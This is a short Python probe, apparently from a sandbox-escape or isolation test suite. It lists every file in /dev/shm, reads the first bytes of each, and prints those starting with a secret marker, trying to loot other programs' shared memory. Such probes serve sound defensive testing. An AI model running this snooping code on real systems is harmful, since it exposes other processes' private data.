"""Reads the shared-memory files of other programs.

family: processes
judge: loot posix-shm
trace: /dev/shm
"""

import contextlib
import os

for name in os.listdir("/dev/shm"):  # noqa: S108  # the place under attack
    with contextlib.suppress(OSError), open(f"/dev/shm/{name}", "rb") as file:  # noqa: S108  # the place under attack
        text = file.read(30)
        print(text.decode() if text.startswith(b"s3") else "")
